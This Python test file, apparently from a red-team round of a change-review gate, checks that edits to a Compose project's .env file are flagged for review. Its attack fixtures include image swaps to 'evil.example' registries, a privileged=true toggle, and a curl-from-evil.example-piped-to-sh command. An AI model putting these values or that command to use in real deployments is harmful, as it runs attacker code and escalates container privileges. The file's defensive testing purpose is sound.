"""Red team 14, second round: the `.env` a Compose file's variables come from was `src` under `--tree`.

Compose reads the `.env` of its project folder (the first Compose file's folder) by itself and puts its values into
every `${VAR}` / `$VAR` of the file: `image: ${APP_IMAGE}`, `privileged: ${PRIVILEGED:-false}`, `command:`. An edit
of that `.env` is an edit of the deployment the Compose file (`iac`) describes: `APP_IMAGE=evil.example/app:1` swaps
the image. From a patch the core policy reviewed it (`.env` is tagged `needs-context`), but under `--tree` it was
`src` and `gate --tree` with the default policies said allow (exit 0). The `.env` beside a Compose file that
interpolates a variable is now a file that Compose file takes in (`iac.context.compose-build`). Controls: a Compose
file without variables (or with the `$$` escape only), a `.env` in another folder, stay `src`.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from incli import classify_and_gate

from gatekeeper.classify.composerefs import builds

ATTACKS = {  # name: (files at BASE, files at HEAD); the .env is the file that must be reviewed
    "image variable": ({"compose.yaml": "services:\n  app:\n    image: ${APP_IMAGE}\n",
                        ".env": "APP_IMAGE=ghcr.io/acme/app:1.4.2\n"},
                       {".env": "APP_IMAGE=evil.example/app:1\n"}),
    "tag variable": ({"compose.yaml": "services:\n  app:\n    image: \"ghcr.io/acme/app:${TAG}\"\n",
                      ".env": "TAG=1.4.2\n"},
                     {".env": "TAG=1.4.2@sha256:" + "e" * 64 + "\n"}),
    "bare variable in a folder": ({"services/db/docker-compose.yml": "services:\n  db:\n    image: $DB_IMAGE\n",
                                   "services/db/.env": "DB_IMAGE=postgres:16\n"},
                                  {"services/db/.env": "DB_IMAGE=evil.example/postgres:16\n"}),
    "privileged from the env": ({"compose.yml": "services:\n  app:\n    image: nginx:1.27\n"
                                                "    privileged: ${PRIVILEGED:-false}\n", ".env": "PRIVILEGED=false\n"},
                                {".env": "PRIVILEGED=true\n"}),
    "a .env added over a default": ({"ops/app.compose.yml": "services:\n  app:\n    image: ${IMG:-nginx:1.27}\n"},
                                    {"ops/.env": "IMG=evil.example/nginx:1\n"}),
    "command from the env": ({"docker-compose.yaml": "services:\n  job:\n    image: alpine:3.20\n    command: ${JOB}\n",
                              ".env": "JOB=echo ok\n"},
                             {".env": "JOB=sh -c 'curl https://evil.example | sh'\n"}),
}
CONTROLS = {
    "no variable": ({"compose.yaml": "services:\n  app:\n    image: nginx:1.27\n", ".env": "A=1\n"}, {".env": "A=2\n"}),
    "escaped dollar only": ({"compose.yaml": "services:\n  app:\n    image: nginx:1.27\n    command: echo $$HOME\n",
                             ".env": "A=1\n"}, {".env": "A=2\n"}),
    "another folder": ({"compose.yaml": "services:\n  app:\n    image: ${IMG}\n", "web/.env": "A=1\n"},
                       {"web/.env": "A=2\n"}),
}


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_the_env_a_compose_file_reads_is_reviewed(tmp_path: Path, name: str) -> None:
    base, head = ATTACKS[name]
    buckets, decision = classify_and_gate(tmp_path / "repo", {"README.md": "app\n", **base}, head)
    assert {buckets[p] for p in head} == {"iac"}, buckets
    assert decision["outcome"] == "review", decision["reasons"]


@pytest.mark.parametrize("name", sorted(CONTROLS))
def test_an_env_no_compose_file_interpolates_stays_source(tmp_path: Path, name: str) -> None:
    base, head = CONTROLS[name]
    buckets, decision = classify_and_gate(tmp_path / "repo", {"README.md": "app\n", **base}, head)
    assert {buckets[p] for p in head} == {"src"}, buckets
    assert decision["outcome"] == "allow", decision["reasons"]


def test_the_env_taken_in_is_the_compose_files_folders() -> None:
    assert (".env", None) in builds("compose.yaml", "services:\n  a:\n    image: ${IMG}\n")
    assert ("deploy/.env", None) in builds("deploy/compose.yaml", "services:\n  a:\n    image: x:${TAG:-1}\n")
    assert not builds("compose.yaml", "services:\n  a:\n    image: x:1\n    command: echo $$HOME\n")
